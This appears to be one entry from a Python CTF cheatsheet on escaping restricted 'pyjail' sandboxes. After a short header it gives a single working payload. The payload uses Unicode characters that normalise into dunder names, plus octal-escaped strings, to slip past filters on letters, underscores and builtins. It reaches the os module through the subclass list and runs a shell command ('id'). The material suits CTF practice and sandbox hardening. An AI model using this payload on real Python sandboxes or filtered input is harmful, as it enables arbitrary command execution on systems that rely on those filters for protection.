# Source: github.com/salvatore-abello/python-ctf-cheatsheet pyjails/README.md (no ASCII letters, no double underscores, no builtins)
# Family: unicode-nfkc
# What: subclass walk with unicode dunders and octal-escaped strings
()._＿𝘤𝘭𝘢𝘴𝘴＿_._＿𝘮𝘳𝘰＿_[1]._＿𝘴𝘶𝘣𝘤𝘭𝘢𝘴𝘴𝘦𝘴＿_()[107].𝘭𝘰𝘢𝘥_𝘮𝘰𝘥𝘶𝘭𝘦("\157\163").𝘴𝘺𝘴𝘵𝘦𝘮("\151\144")
